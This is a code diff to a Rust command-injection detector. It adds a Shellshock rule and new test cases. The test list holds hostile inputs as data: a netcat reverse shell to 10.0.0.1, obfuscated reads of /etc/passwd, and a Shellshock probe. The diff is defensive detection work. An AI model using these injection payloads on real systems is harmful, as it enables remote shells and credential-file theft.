@@ -26,6 +26,17 @@ pub fn detect(input: &[u8]) -> Option<Finding> {
 
 /// [`detect`] without the base64 layer.
 fn detect_plain(input: &[u8]) -> Option<Finding> {
+    // Shellshock: a value that bash imports as a function definition runs what follows it.
+    let t = input.trim_ascii_start();
+    if t.starts_with(b"() {") || t.starts_with(b"(){") {
+        let off = input.len() - t.len();
+        return Some(Finding {
+            class: Class::Cmdi,
+            reason: "Shellshock function definition `() {`".into(),
+            span: off..off + 4,
+            signature: "(){".into(),
+        });
+    }
     if let Some(f) = in_contexts(input) {
         return Some(f);
     }
@@ -377,6 +388,8 @@ mod tests {
             "x & W^h^o^a^m^i",
             "x;$'\\x63\\x61\\x74' /etc/passwd",
             "x; nc -e /bin/sh 10.0.0.1 4444",
+            "() { :; }; echo vulnerable",
+            "x;/???/??t /???/p??s??",
         ] {
             assert!(detect(a.as_bytes()).is_some(), "{a}");
         }
